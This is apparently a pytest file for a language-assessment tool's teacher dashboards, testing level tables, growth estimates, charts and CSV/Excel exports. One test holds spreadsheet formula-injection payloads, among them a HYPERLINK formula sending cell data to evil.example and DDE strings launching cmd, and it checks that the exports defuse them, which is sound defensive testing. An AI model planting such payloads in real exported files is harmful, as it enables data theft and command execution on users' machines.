"""The teacher dashboards' numbers, computed by hand on small tables and through the
service on a simulated programme."""

import datetime as dt
import io

import numpy as np
import pandas as pd
import pytest

from lang_assess.engine.levels import CutScores
from lang_assess.ui.cohort_views import (
    STATUS_ACTION,
    STATUS_ON_TRACK,
    STATUS_READY,
    age_group,
    export_csv,
    export_excel,
    flag_counts,
    growth_by_group,
    growth_per_week,
    level_distribution_by_week,
    level_distribution_figure,
    status_label,
    track_median,
    trajectory_figure,
    with_status,
)

CUTS = CutScores((-2.0, -1.0, 0.0, 1.0, 2.0))
TESTS = pd.DataFrame({
    "participant_id": [1, 1, 1, 2, 2, 3],
    "week": [0, 1, 2, 0, 2, 1],
    "theta": [-1.5, -1.2, -0.6, 0.2, 0.3, -2.5],
    "se": [0.3, 0.3, 0.3, 0.3, 0.3, 0.4],
    "level": ["A1", "A1", "A2", "B1", "B1", "preA1"],
})
PEOPLE = pd.DataFrame({"participant_id": [1, 2, 3], "track": [2, 3, 1],
                       "gender": ["f", "m", "f"], "birth_year": [1990, 1980, 2000]})


def test_status_labels():
    assert status_label(True, True, True) == STATUS_READY
    assert status_label(False, True, False) == STATUS_ACTION
    assert status_label(False, False, True) == STATUS_ACTION
    assert status_label(False, False, False) == STATUS_ON_TRACK


def test_level_distribution_carries_the_latest_test_forward():
    table = level_distribution_by_week(TESTS, CUTS.labels)
    # week 0: p1 A1, p2 B1; week 1: p1 A1, p2 B1 (carried), p3 preA1; week 2: A2, B1, preA1
    assert table.loc[0].to_dict() == {"preA1": 0, "A1": 1, "A2": 0, "B1": 1, "B2": 0, "C1": 0}
    assert table.loc[1, ["preA1", "A1", "B1"]].tolist() == [1, 1, 1]
    assert table.loc[2, ["preA1", "A2", "B1"]].tolist() == [1, 1, 1]
    assert (table.sum(axis=1) == [2, 3, 3]).all()


def test_growth_and_groups():
    growth = growth_per_week(TESTS)
    assert growth[1] == pytest.approx(0.45)  # slope of (0,-1.5),(1,-1.2),(2,-0.6)
    assert np.isnan(growth[2]) and np.isnan(growth[3])  # fewer than three tests
    table = growth_by_group(TESTS, PEOPLE, "gender").set_index("gender")
    assert table.loc["f", "n"] == 1 and bool(table.loc["f", "small"])
    assert age_group(1990, dt.date(2026, 11, 22)) == "30–39"
    assert age_group(None, dt.date(2026, 11, 22)) == "unknown"
    med = track_median(TESTS, PEOPLE)
    assert med[(med.track == 2) & (med.week == 1)]["theta"].item() == -1.2


def test_exports_read_back_equal(tmp_path):
    table = with_status(pd.DataFrame({
        "pseudonym": ["KRS-ø1", "KRS-å2"], "level": ["A2", "B1"],
        "ready_to_move_up": [True, False], "stalled": [False, True], "missed": [False, False]}))
    back_csv = pd.read_csv(io.BytesIO(export_csv(table)), encoding="utf-8-sig")
    back_xlsx = pd.read_excel(io.BytesIO(export_excel(table)))
    for back in (back_csv, back_xlsx):
        pd.testing.assert_frame_equal(back, table, check_dtype=False)
    assert flag_counts(table) == {"ready_to_move_up": 1, "stalled": 1, "missed": 0}


ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Klikk")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_exports_are_formula_safe():
    """A pseudonym (or any text) that starts like a formula stays a text: in the CSV with
    a leading apostrophe, in Excel as a quote-prefixed text cell; numbers stay numbers."""
    import csv

    from openpyxl import load_workbook

    table = pd.DataFrame({"pseudonym": [*ATTACKS, "KRS-001"],
                          "track": [1, 2, 3, 1, 2, 3, 1], "theta": [-1.5] * 7})
    rows = list(csv.reader(io.StringIO(export_csv(table).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["pseudonym", "track", "theta"]
    for attack, row in zip(ATTACKS, rows[1:], strict=False):
        assert row[0] == "'" + attack
    assert rows[-1] == ["KRS-001", "1", "-1.5"]  # a negative number is a number
    sheet = load_workbook(io.BytesIO(export_excel(table))).active
    cells = list(sheet.iter_rows(min_row=2))
    # (openpyxl's own XML writer keeps a CR as LF; with lxml installed the CR stays)
    for attack, row in zip(ATTACKS, cells, strict=False):
        assert row[0].data_type == "s"
        assert row[0].value in (attack, attack.replace("\r", "\n"))
        assert row[0].quotePrefix or row[0].value.startswith("\n")
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    assert cells[-1][0].value == "KRS-001" and not cells[-1][0].quotePrefix
    assert cells[0][2].value == -1.5 and cells[0][2].data_type == "n"


def test_figures_have_the_data():
    fig = trajectory_figure(TESTS, 1, CUTS, track_median(TESTS, PEOPLE), track=2)
    line = next(t for t in fig.data if t.name == "θ")
    # the readable scale: θ −3 → 0, +3 → 100
    assert list(line.y) == pytest.approx([25.0, 30.0, 40.0])
    assert fig.layout.yaxis.title.text == "ability (0–100)"
    norsk = trajectory_figure(TESTS, 1, CUTS, labels={"week": "uke"})
    assert norsk.layout.xaxis.title.text == "uke"
    bars = level_distribution_figure(level_distribution_by_week(TESTS, CUTS.labels))
    assert [b.name for b in bars.data] == list(CUTS.labels)


@pytest.mark.db
def test_through_the_service_on_a_simulated_programme(tmp_path, nb_bank):
    from lang_assess.programme.demo import build_demo
    from lang_assess.programme.rules import load_config
    from lang_assess.programme.service import Service
    from lang_assess.programme.store.db import make_engine, migrate

    engine = make_engine(f"sqlite:///{tmp_path / 'v.sqlite'}")
    migrate(engine)
    build_demo(lambda clock: Service(engine, nb_bank, load_config(), clock=clock, seed=3),
               today=dt.date(2026, 11, 22), n_participants=12, weeks=6, intakes=2, seed=4)
    svc = Service(engine, nb_bank, load_config(),
                  clock=lambda: dt.datetime(2026, 11, 22, 8, tzinfo=dt.UTC))
    kari = svc.login_teacher("kari", "demo-kari-2026")
    cid = int(svc.cohorts(kari)["id"].iloc[0])
    tests = svc.cohort_tests(kari, cid)
    progress = svc.cohort_progress(kari, cid)
    assert set(tests["participant_id"]) <= set(progress["participant_id"])
    latest = tests.sort_values("week").groupby("participant_id").tail(1)
    table = level_distribution_by_week(tests, CUTS.labels)
    last_week = table.loc[table.index.max()]
    assert last_week.sum() == latest["participant_id"].nunique()
    assert last_week.to_dict() == latest["level"].value_counts().reindex(
        list(CUTS.labels), fill_value=0).to_dict()
    # the cohort table's level is each participant's latest test
    merged = progress.merge(latest[["participant_id", "level"]], on="participant_id",
                            suffixes=("", "_latest"))
    assert (merged["level"] == merged["level_latest"]).all()
